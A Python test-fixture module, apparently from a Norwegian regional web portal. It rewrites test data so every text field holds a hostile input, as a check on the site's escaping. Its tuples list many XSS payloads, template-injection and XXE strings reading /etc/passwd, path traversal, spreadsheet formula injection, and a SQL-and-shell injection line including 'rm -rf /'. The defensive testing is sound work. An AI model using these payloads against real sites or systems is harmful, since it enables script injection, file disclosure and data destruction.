"""A stranger's worst: texts that try to be more than text, and a region where every field has one of them.

Each payload that could run calls ``alert``; what could fetch, asks ``ond.example``. The region is made from the test
region's records by asking the model which fields take a payload, so that a new field is tried without a line here.
"""

import json
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import get_args

from pydantic import BaseModel, ValidationError
from stillingsdata import STILLINGER

from regionportal.model.slag import SAMLINGER, SLAG, finn
from regionportal.model.stilling import Stillinger
from regionportal.model.typer import Modell
from regionportal.reading.lesing import LENGSTE_ID
from regionportal.reading.yaml12 import les

LANGT = 120  # what a name may have
ORD = 80  # what a word may have

# For any text, a name too.
KORTE = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)//",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\x3cscript>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    "` onmouseover=`alert(1)` x",
    "</title></style></textarea></template></noscript><script>alert(1)</script>",
    "</h1></a></li></ul></main></body></html><script>alert(1)</script>",
    "<svg><script href=data:,alert(1) /><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><object data=//ond.example>",
    "<style>*{position:fixed!important;inset:0;color:red}</style>",
    "<style>@import '//ond.example/x.css';</style><link rel=stylesheet href=//ond.example/x.css>",
    "<div style='position:fixed;inset:0;z-index:9999;background:url(//ond.example/x.png)'>",
    '<p style="width:expression(alert(1));behavior:url(//ond.example)">',
    "<base href=//ond.example/><meta http-equiv=refresh content='0;url=//ond.example'>",
    "<form action=//ond.example><input autofocus onfocus=alert(1)><button>Logg inn",
    "<img src=//ond.example/x.png><video poster=//ond.example/y.png>",
    "javascript:alert(1)//https://",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "[x](javascript:alert(1)) ![x](https://ond.example/x.png)",
    "<https://ond.example/> **fet** `kode` _skrå_ | celle |",
    "{{ 7*7 }} {% raw %} {% include '/etc/passwd' %} {# x #} {{ config.items() }}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
    "%(navn)s %s %d %n {0} {navn} {antall} {antall.__class__} $& $1 \\1",
    "---\ntitle: Ond\ntemplate: /etc/passwd\n---",
    "\n# Overskrift\n\n- liste\n> sitat\n    kode",
    "Fest\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Ond\r\nURL:https://ond.example/",
    "Fest\nBEGIN:VALARM\nACTION:AUDIO\nATTACH:https://ond.example/x.wav",
    'Fest;X="a:b";CN=\\,\\;\\n\\N\\\\:MAILTO:ond@ond.example',
    "<!DOCTYPE x [<!ENTITY ond SYSTEM 'file:///etc/passwd'>]>&ond;",
    "<?xml-stylesheet href='//ond.example/x.xsl'?><?php echo 1 ?>&nbsp;&ond;",
    '"}],"@type":"Event","url":"https://ond.example/"}</script><!--<script>',
    "@everyone #1 ::error file=x,line=1::ond %0A::set-output name=x::y",
    '=HYPERLINK("https://ond.example/") +1 -1 @SUM(A1)',
    "../../etc/passwd ..%2f..%2f \\\\ond.example\\x C:\\x",
    "__proto__ constructor toString hasOwnProperty valueOf",
    "' OR 1=1; DROP TABLE skatter; -- $(touch x) `touch x` ; rm -rf / | x && y",
    "W" * ORD,
    "å" * ORD,
    "1" * (ORD - 1) + ".",
    "a\u00a0" * 59 + "a",
    "_" * ORD,
    "漢" * ORD,
    "🏔" * 60,
    "﷽" * 40,
    "a\u0323\u0302\u0301" * 30,  # the most that a letter may carry
    "שלום עולם مرحبا بالعالم <b>x</b> (1) [2]",
    "Ꮤoodѕtоϲk Nоrdrеіѕа Кåfjоrd",  # Cyrillic and Cherokee
    "<" * LANGT,
    '"' * LANGT,
)

# For texts that are Markdown: longer ones, and tricks of the format itself.
MARKDOWN = (
    "<script>alert(1)</script>",
    "</p></script><ScRiPt>alert(1)//",
    "<img src=https://ond.example/x.png onerror=alert(1)>",
    "![spor](https://ond.example/spor.gif)",
    "[x](javascript:alert(1))",
    "[x](JaVa\tScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a><a href='java&Tab;script&colon;alert(1)'>y</a><a "
    "href='&#1;javascript:alert(1)'>z</a>",
    "<ftp://ond.example/>",
    "<a href=https://a.example target=_blank rel=opener onclick=alert(1)>x</a>",
    "<p onmouseover=alert(1) style='position:fixed' class=kort id=innhold>x</p>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://ond.example/></object><embed src=https://ond.example/>",
    "<form action=https://ond.example/><input name=passord><button formaction='javascript:alert(1)'>ok</button></form>",
    "<base href=https://ond.example/><meta http-equiv=refresh content='0;url=https://ond.example'><link "
    "rel=stylesheet href=//ond.example>",
    "<style>body{display:none}</style>",
    "<video poster=https://ond.example/ src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><?php echo 1 ?>",
    "<template><script>alert(1)</script></template>",
    "<h1>Jeg er sida</h1><nav><main><header>",
    "`<script>alert(1)</script>`\n\n    <img src=x onerror=alert(1)>",
    "**<b onclick=alert(1)>fet</b>**",
    '[x](https://a.example/ "\\" onclick=alert(1)")',
    '[x](https://a.example/"onclick=alert(1))',
    "<<script>script>alert(1)<</script>/script>",
    "[<img src=x onerror=alert(1)>](https://a.example/)",
    "\u202e<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "![x][r]\n\n[r]: https://ond.example/x.png",
    "[x][r]\n\n[r]:\n    javascript:alert(1)",
    "[a [b](https://a.example/) c](https://b.example/ 'd\" onclick=\"alert(1)')",
    "Tekst {: onclick=alert(1) style=position:fixed;inset:0 }\n{: #innhold .topp }",
    "# Stor\n{: onclick=alert(1) }\n\nOnd\n===",
    "<div markdown=1 onclick=alert(1)>*x*</div>",
    "<a href='&NewLine;javascript&colon;alert(1)'>x</a><a href='https:&#x2f;&#x2f;ond.example' "
    "ping=//ond.example>y</a>",
    "<svg><style>*{fill:url(//ond.example)}</style><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button><input type=image "
    "src=//ond.example/x.png>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<img src='//ond.example/x.png' srcset='//ond.example/y.png 2x'><picture><source "
    "srcset=//ond.example/z.png></picture>",
    "<span lang='\" onmouseover=\"alert(1)'>x</span><i lang=x style='all:initial;position:fixed;inset:0'>y</i>",
    "> > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > dypt",
    "\n".join("  " * n + "- dypt" for n in range(40)),
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | " + "W" * ORD + " |",
    "    " + "kode" * 20 + "\n\n`" + "kode" * 20 + "`\n\n" + "W" * ORD,
    "\n\n".join("- " + "ord" * 100 for _ in range(3)),
    "---\ntitle: Ond\ntemplate: /etc/passwd\n---\n\n<script>alert(1)</script>",
    '*[HTML]: <script>alert(1)</script>\n\n[^1]: fotnote\n\n!!! note "<script>alert(1)</script>"\n    x',
)

# Addresses that the door lets in.
ADRESSER = (
    "https://ond.example/?a=1&b='onmouseover=alert(1)//&lt;script&gt;",
    "https://ond.example/%3Cscript%3Ealert(1)%3C/script%3E#javascript:alert(1)",
    "HTTPS://OND.EXAMPLE:8443/a);alert(1)//[x](y)*_~!@$,;'",
    "https://ond.example/" + "a" * 300,
    "https://ond.example/?&amp;&#106;avascript:alert(1)&quot;&#39;",
    "https://xn--nrdreisa-vqf.example/\u0430\u202f".removesuffix("\u202f"),
)

# A finding names occupations by name, and the list of them has to have the same.
HENVISNINGER = {"yrker", "yrke"}

# What fetches a rate gets the hostile one of that name.
HENTER_SATS = (
    "{sats:bostotte} og [lenke med {sats:bostotte}](https://a.example/), `{sats:bostotte}` og {sats:lavere-skatt}"
)

STEG = {"id": "si-ifra", "dag": 1, "tittel": "Si ifra", "tekst": "Meld flytting.", "tema": "barnehage"}


def skriv_region(data: Path) -> None:
    """Make the test region's data (a copy of it) hostile: every kind of record, every field that takes a payload."""
    yrker = _les(data / "yrker.yml")
    nye = _fyll(SLAG["yrker"].modell, yrker, {}, 0)
    navn = {gammel["navn"]: ny["navn"] for gammel, ny in zip(yrker["yrker"], nye["yrker"], strict=True)}
    for nummer, sti in enumerate(sorted(data.rglob("*.yml"))):
        plass = sti.relative_to(data)
        slag, _ = finn(f"data/{plass.as_posix()}")
        innhold = _les(sti)
        if plass.name == "region.yml":
            innhold["forste_90_dager"] = [STEG]
        if plass.parts[0] == "jobbehov":
            innhold = _med_yrkene(innhold, navn)
        _skriv(sti, nye if plass.name == "yrker.yml" else _fyll(slag.modell, innhold, _identitet(plass), nummer * 7))
    _skriv_skatter(data / "skatter")
    _skriv_stillinger(data / "status" / "stillinger.json")


def _skriv_skatter(mappe: Path) -> None:
    """One treasure for each payload, which is then in all its fields."""
    maler = [_les(mappe / "ness" / "fyret.yml"), _les(mappe / "ness" / "moloen.yml")]
    for nummer in range(max(len(KORTE), len(MARKDOWN))):
        id_ = {0: "constructor", 1: "a" * LENGSTE_ID}.get(nummer, f"last-{nummer}")
        post = _fyll(SAMLINGER["skatter"].modell, maler[nummer % 2], {"id": id_, "kommune": "ness"}, nummer, steg=0)
        _skriv(mappe / "ness" / f"{id_}.yml", post)
    _skriv(mappe / "ness" / "satser.yml", maler[0] | {"id": "satser", "ingress": HENTER_SATS, "tekst": HENTER_SATS})


def _skriv_stillinger(sti: Path) -> None:
    """What an employer may have written in an advertisement at Nav, which nobody here has looked at."""
    sti.parent.mkdir(exist_ok=True)
    _skriv(sti, _fyll(Stillinger, STILLINGER.model_dump(mode="json"), {}, 0))


def _les(sti: Path) -> dict:
    dokument, feil = les(sti.read_bytes(), sti.name)
    assert dokument and not feil, feil
    return dokument.verdi


def _skriv(sti: Path, post: dict) -> None:
    sti.write_text(json.dumps(post, ensure_ascii=False, indent=1), "utf-8")  # JSON is YAML


def _identitet(plass: Path) -> dict[str, str]:
    if len(plass.parts) == 1:
        return {}
    return {"id": plass.stem} | ({"kommune": plass.parts[1]} if plass.parts[0] == "skatter" else {})


def _med_yrkene(post: dict, navn: dict[str, str]) -> dict:
    rader = [{**rad, "yrke": navn[rad["yrke"]]} for rad in post.get("rader", [])]
    return post | {"yrker": [navn[en] for en in post.get("yrker", [])]} | ({"rader": rader} if rader else {})


def _fyll(modell: type[Modell], post: dict, identitet: dict[str, str], forste: int, steg: int = 1) -> dict:
    """The record with a payload in each field that takes one, ``steg`` payloads on from one field to the next."""
    post = json.loads(json.dumps({**post, **identitet}))

    def gyldig() -> bool:
        try:
            modell.model_validate(post)
        except ValidationError:
            return False
        return True

    assert gyldig()
    for node, navn, prover in _tomme_felt(modell, post):
        for prove in prover:
            node[navn] = prove
            if gyldig():
                break
            del node[navn]
    for nummer, (node, navn, felt) in enumerate(_tekster(post)):
        plass, gammel = forste + nummer * steg, node[navn]
        for last in _kandidater(felt, plass):
            if isinstance(node, list) and last in node:
                continue  # no list has the same text twice
            node[navn] = last
            if gyldig():
                break
            node[navn] = gammel
    return post


def _kandidater(felt: str, plass: int) -> Iterator[str]:
    """What to try in a field: the payload whose turn it is, and then the next ones. The last are addresses."""
    if felt == "tekst":
        yield from (MARKDOWN[(plass + n) % len(MARKDOWN)] for n in range(4))
    yield from (KORTE[(plass + n) % len(KORTE)] for n in range(6))
    yield from (ADRESSER[(plass + n) % len(ADRESSER)] for n in range(len(ADRESSER)))


def _tekster(verdi: object, felt: str = "") -> Iterator[tuple[dict | list, str | int, str]]:
    """Each text in a value: where it stands, and the name of its field."""
    for navn, en in list(verdi.items() if isinstance(verdi, dict) else enumerate(verdi)):
        dets = navn if isinstance(navn, str) else felt
        if isinstance(en, str) and dets not in HENVISNINGER:
            yield verdi, navn, dets
        elif isinstance(en, dict | list):
            yield from _tekster(en, dets)


def _tomme_felt(modell: type[BaseModel], verdi: dict) -> Iterator[tuple[dict, str, Sequence[object]]]:
    """Each field that is not filled in, in the record and in what is in it, with what to try there."""
    for navn, felt in modell.model_fields.items():
        inni = _modell_i(felt.annotation)
        if navn in verdi:
            for en in _poster_i(verdi[navn]) if inni else ():
                yield from _tomme_felt(inni, en)
        elif navn not in HENVISNINGER:
            pakrevd = {en: "Prøve" for en, f in inni.model_fields.items() if f.is_required()} if inni else "Prøve"
            yield verdi, navn, ("Prøve", ["Prøve"], pakrevd)


def _poster_i(verdi: object) -> Iterator[dict]:
    """The records in a value: itself, or those of a list, or of lists by name."""
    if isinstance(verdi, dict) and not all(isinstance(en, list) for en in verdi.values()):
        yield verdi
    elif isinstance(verdi, dict | list):
        for en in verdi.values() if isinstance(verdi, dict) else verdi:
            yield from _poster_i(en)


def _modell_i(annotasjon: object) -> type[BaseModel] | None:
    if isinstance(annotasjon, type) and issubclass(annotasjon, BaseModel):
        return annotasjon
    return next((funnet for del_ in get_args(annotasjon) if (funnet := _modell_i(del_))), None)
